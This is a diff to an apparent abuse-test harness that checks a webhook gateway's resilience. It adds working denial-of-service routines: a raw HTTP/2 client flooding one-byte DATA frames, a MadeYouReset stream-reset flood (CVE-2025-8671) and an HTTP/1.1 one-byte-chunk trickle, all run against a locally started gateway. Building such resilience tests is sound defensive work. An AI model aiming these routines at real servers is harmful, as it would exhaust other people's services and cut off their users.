@@ -15,7 +15,15 @@ descriptors and RSS at the end of the phase (``during``: the highest seen). Atta
 - ``churn``: connections opened, used for one review or none, and closed, as fast as possible;
 - ``h2-zero-window``: HTTP/2 connections with SETTINGS_INITIAL_WINDOW_SIZE=0 sending reviews and never
   a WINDOW_UPDATE;
-- ``h2-settings-flood``: HTTP/2 connections sending large SETTINGS frames without reading the ACKs.
+- ``h2-settings-flood``: HTTP/2 connections sending large SETTINGS frames without reading the ACKs;
+- ``h2-small-data``: one HTTP/2 connection with 100 streams sending 24,000 one-byte DATA frames a
+  second, within the gateway's flow-control windows;
+- ``h2-made-you-reset``: one HTTP/2 connection sending, on stream after stream, a whole review and
+  then one more DATA byte, which makes the gateway reset the stream (CVE-2025-8671);
+- ``h1-small-chunks``: one HTTP/1.1 connection sending a chunked review in one-byte chunks.
+
+The attacking connections reconnect as soon as the gateway ends them. ``--gateway-tree DIR`` runs
+another checkout's gateway (``git worktree add DIR REV``) to compare before and after a change.
 
 ``stalled`` runs differently, against the gateway over TLS as it is deployed: waves of
 ``--stalled`` connections (default 10,000) that send nothing or half a ClientHello, opened as fast
@@ -57,6 +65,9 @@ ATTACKS = {
     "churn": "connections opened, used once or not at all, and closed, back to back",
     "h2-zero-window": "HTTP/2 reviews whose replies the client never lets through (window 0)",
     "h2-settings-flood": "HTTP/2 connections sending large SETTINGS frames, never reading the ACKs",
+    "h2-small-data": "one HTTP/2 connection: 100 streams, 24,000 one-byte DATA frames a second",
+    "h2-made-you-reset": "one HTTP/2 connection making the gateway reset every stream (CVE-2025-8671)",
+    "h1-small-chunks": "one HTTP/1.1 connection sending a chunked body in one-byte chunks",
     "stalled": "waves of TLS connections sending nothing or half a ClientHello (--stalled, --waves)",
 }
 
@@ -78,6 +89,8 @@ class Phase:
     rss_mb: float
     inbound: int = -1  # the gateway's open inbound connections (its /metrics) at the end of the phase
     backend: int = -1  # its open backend connections
+    cut: int = 0  # connections the gateway ended for a limit during the phase (its /metrics)
+    p50_ratio: float = 1.0  # p50 / the "before" phase's p50
 
 
 def _review(uid: str) -> bytes:
@@ -192,8 +205,8 @@ async def _forever(endpoint: Endpoint, one: Callable[[trio.SocketStream], Awaita
             continue
         try:
             await one(stream)
-        except (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
-            pass
+        except* (trio.BrokenResourceError, trio.ClosedResourceError, OSError):
+            pass  # also from an attack's own tasks (its reader)
         finally:
             await trio.aclose_forcefully(stream)
 
@@ -249,20 +262,176 @@ async def _h2_settings_flood(stream: trio.SocketStream) -> None:
         await stream.send_all(_frame(4, payload=entries))
 
 
+class _RawH2:
+    """A prior-knowledge HTTP/2 client writing its own frames (flow-control-correct: it tracks the
+    gateway's windows), for attacks h2 itself would not send. It never acknowledges the gateway's DATA:
+    it announces the largest windows at once."""
+
+    def __init__(self, stream: trio.SocketStream) -> None:
+        import hpack
+
+        self.stream = stream
+        self.encoder = hpack.Encoder()
+        self.window = 65_535  # the gateway's connection window for our DATA
+        self.initial = 65_535
+        self.windows: dict[int, int] = {}
+        self.goaway: int | None = None
+        self.next_sid = 1
+        self.updated = trio.Event()
+        self._lock = trio.Lock()  # the reader's SETTINGS acknowledgements and the attack both write
+
+    async def send(self, data: bytes) -> None:
+        async with self._lock:
+            await self.stream.send_all(data)
+
+    async def start(self) -> None:
+        biggest = 2**31 - 1
+        await self.send(
+            PREFACE
+            + _frame(4, payload=struct.pack(">HI", 4, biggest))
+            + _frame(8, payload=(biggest - 65_535).to_bytes(4, "big"))
+        )
+
+    def open(self, path: bytes, *, end_stream: bool = False) -> tuple[int, bytes]:
+        sid, self.next_sid = self.next_sid, self.next_sid + 2
+        self.windows[sid] = self.initial
+        block = self.encoder.encode(
+            [(b":method", b"POST"), (b":scheme", b"http"), (b":authority", b"gw"), (b":path", path)]
+        )
+        return sid, _frame(1, 0x4 | (0x1 if end_stream else 0), sid, block)
+
+    def data(self, sid: int, payload: bytes, *, end_stream: bool = False) -> bytes:
+        self.window -= len(payload)
+        self.windows[sid] = self.windows.get(sid, self.initial) - len(payload)
+        return _frame(0, 0x1 if end_stream else 0, sid, payload)
+
+    def room(self, sid: int, size: int) -> bool:
+        return self.window >= size and self.windows.get(sid, self.initial) >= size
+
+    async def read(self) -> None:
+        """Read the gateway's frames until it closes: windows, SETTINGS (acknowledged), GOAWAY."""
+        buffer = b""
+        while True:
+            chunk = await self.stream.receive_some(65536)
+            if not chunk:
+                return
+            buffer += chunk
+            acks = b""
+            while len(buffer) >= 9:
+                length = int.from_bytes(buffer[:3], "big")
+                if len(buffer) < 9 + length:
+                    break
+                kind, flags = buffer[3], buffer[4]
+                sid = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
+                payload, buffer = buffer[9 : 9 + length], buffer[9 + length :]
+                if kind == 8:
+                    increment = int.from_bytes(payload[:4], "big") & 0x7FFFFFFF
+                    if sid == 0:
+                        self.window += increment
+                    else:
+                        self.windows[sid] = self.windows.get(sid, self.initial) + increment
+                    self.updated.set()
+                    self.updated = trio.Event()
+                elif kind == 4 and not flags & 0x1:
+                    acks += _frame(4, 0x1)
+                elif kind == 7:
+                    self.goaway = int.from_bytes(payload[4:8], "big")
+            if acks:
+                await self.send(acks)
+
+
+async def _h2_small_data(stream: trio.SocketStream) -> None:
+    """100 streams, then one-byte DATA frames round-robin over them at ~24,000 frames/s, within the
+    gateway's flow-control windows (the frames are valid; only their size is the attack)."""
+    client = _RawH2(stream)
+    await client.start()
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(client.read)
+        sids = []
+        opened = b""
+        for _ in range(100):
+            sid, headers = client.open(b"/validate?timeout=10s")
+            sids.append(sid)
+            opened += headers
+        await client.send(opened + client.data(sids[0], b"{"))
+        while client.goaway is None:
+            batch = []
+            for i in range(240):  # 240 frames every 10 ms
+                sid = sids[i % len(sids)]
+                if client.room(sid, 1):
+                    batch.append(client.data(sid, b" "))
+            if batch:
+                await client.send(b"".join(batch))
+                await trio.sleep(0.01)
+            else:
+                await client.updated.wait()
+        nursery.cancel_scope.cancel()
+
+
+async def _h2_made_you_reset(stream: trio.SocketStream) -> None:
+    """Each stream: HEADERS, a whole review with END_STREAM, then one more DATA byte, which the
+    gateway must answer by resetting the stream (MadeYouReset, CVE-2025-8671) — as fast as the
+    gateway's windows let it."""
+    client = _RawH2(stream)
+    await client.start()
+    async with trio.open_nursery() as nursery:
+        nursery.start_soon(client.read)
+        while client.goaway is None:
+            body = _review(str(uuid.uuid4()))
+            if client.window < len(body) + 1:
+                await client.updated.wait()
+                continue
+            sid, headers = client.open(b"/validate?timeout=10s")
+            await client.send(headers + client.data(sid, body, end_stream=True) + _frame(0, 0, sid, b" "))
+            await trio.sleep(0.001)
+        nursery.cancel_scope.cancel()
+
+
+async def _h1_small_chunks(stream: trio.SocketStream) -> None:
+    """A review whose chunked body comes in one-byte chunks, ~100,000 chunks a second."""
+    await stream.send_all(
+        b"POST /validate?timeout=10s HTTP/1.1\r\nhost: gw\r\ncontent-type: application/json\r\n"
+        b"transfer-encoding: chunked\r\n\r\n" + b"1\r\n{\r\n"
+    )
+    chunks = b"1\r\n \r\n" * 1000
+    while True:
+        await stream.send_all(chunks)
+        await trio.sleep(0.01)
+
+
 _ATTACK_FUNCS: dict[str, Callable[[trio.SocketStream], Awaitable[None]]] = {
     "slowloris": _slowloris,
     "churn": _churn,
     "h2-zero-window": _h2_zero_window,
     "h2-settings-flood": _h2_settings_flood,
+    "h2-small-data": _h2_small_data,
+    "h2-made-you-reset": _h2_made_you_reset,
+    "h1-small-chunks": _h1_small_chunks,
 }
-_ATTACK_CONNECTIONS = {"slowloris": 300, "churn": 8, "h2-zero-window": 20, "h2-settings-flood": 4}
+_ATTACK_CONNECTIONS = {
+    "slowloris": 300,
+    "churn": 8,
+    "h2-zero-window": 20,
+    "h2-settings-flood": 4,
+    # issue 31: "one attacker connection moves other callers' p50 by at most 2x" (it reconnects at once
+    # when the gateway ends it)
+    "h2-small-data": 1,
+    "h2-made-you-reset": 1,
+    "h1-small-chunks": 1,
+}
 
 
 # --- the run --------------------------------------------------------------------------------------------
 
 
 async def run(
-    attack: str, *, seconds: float, clients: int, attackers: int | None, gateway_args: list[str]
+    attack: str,
+    *,
+    seconds: float,
+    clients: int,
+    attackers: int | None,
+    gateway_args: list[str],
+    tree: Path | None = None,
 ) -> list[Phase]:
     with tempfile.TemporaryDirectory(prefix="abuse-") as tmp:
         directory = Path(tmp)
@@ -274,7 +443,7 @@ async def run(
             gw_port = processes.free_port()
             args = ["--log-level", "warning", "--no-review-log", *gateway_args]
             gateway = processes.spawn_gateway(
-                directory / "config", gw_port, None, directory / "gateway.log", args
+                directory / "config", gw_port, None, directory / "gateway.log", args, tree=tree
             )
             with processes.managed(gateway) as proc:
                 endpoint, _ = Endpoint.parse(f"http://127.0.0.1:{gw_port}/", None)
@@ -283,21 +452,26 @@ async def run(
                 phases: list[Phase] = []
 
                 async def phase(name: str) -> None:
+                    cut = await _metric(endpoint, _CLOSED)
                     latencies, errors = await _well_behaved(endpoint, clients, seconds)
                     latencies.sort()
+                    cut = await _metric(endpoint, _CLOSED) - cut
                     await trio.sleep(0.5)  # the well-behaved clients' own closes are noticed
                     inbound, backend = await _connections(endpoint)
+                    p50 = percentile(latencies, 50) * 1000
                     phases.append(
                         Phase(
                             name,
                             len(latencies),
                             errors,
-                            percentile(latencies, 50) * 1000,
+                            p50,
                             percentile(latencies, 99) * 1000,
                             _fds(pid),
                             _rss_mb(pid),
                             inbound,
                             backend,
+                            int(cut),
+                            p50 / phases[0].p50_ms if phases else 1.0,
                         )
                     )
 
@@ -471,6 +645,7 @@ async def run_stalled(
 
 
 _CUT = 'webhook_gateway_inbound_connections_closed_total{reason="handshake_'
+_CLOSED = "webhook_gateway_inbound_connections_closed_total{"  # every reason
 
 
 async def _wave(
@@ -550,17 +725,17 @@ def stalled_table(limit_mb: float, start: float, rows: list[Wave]) -> str:
 
 def table(attack: str, phases: list[Phase]) -> str:
     rows = [
-        f"| {attack} | {p.name} | {p.ok} | {p.errors} | {p.p50_ms:.1f} | {p.p99_ms:.1f} "
-        f"| {p.fds} | {p.rss_mb:.0f} | {p.inbound} | {p.backend} |"
+        f"| {attack} | {p.name} | {p.ok} | {p.errors} | {p.p50_ms:.1f} | {p.p50_ratio:.2f} | {p.p99_ms:.1f} "
+        f"| {p.cut} | {p.fds} | {p.rss_mb:.0f} | {p.inbound} | {p.backend} |"
         for p in phases
     ]
     return "\n".join(rows)
 
 
 HEADER = (
-    "| attack | phase | well-behaved ok | errors | p50 ms | p99 ms | gateway fds | gateway RSS MB "
-    "| inbound conns | backend conns |\n"
-    "|---|---|---:|---:|---:|---:|---:|---:|---:|---:|"
+    "| attack | phase | well-behaved ok | errors | p50 ms | p50 / before | p99 ms | cut by a limit "
+    "| gateway fds | gateway RSS MB | inbound conns | backend conns |\n"
+    "|---|---|---:|---:|---:|---:|---:|---:|---:|---:|---:|---:|"
 )
 
 
@@ -579,6 +754,9 @@ def main(argv: list[str] | None = None) -> int:
     p.add_argument("--quick", action="store_true", help="1 s phases, few attackers; exit 1 on errors")
     p.add_argument("--json", type=Path, help="also write the phases as JSON here")
     p.add_argument("--gateway-arg", action="append", default=[], help="extra gateway option (repeatable)")
+    p.add_argument(
+        "--gateway-tree", type=Path, help="run the gateway of this checkout (the attacks but stalled)"
+    )
     p.add_argument(
         "--stalled", type=int, default=10_000, help="stalled: connections per wave (default 10000)"
     )
@@ -622,6 +800,7 @@ def main(argv: list[str] | None = None) -> int:
                 clients=opts.clients,
                 attackers=attackers,
                 gateway_args=opts.gateway_arg,
+                tree=opts.gateway_tree,
             )
         )
         results[attack] = phases
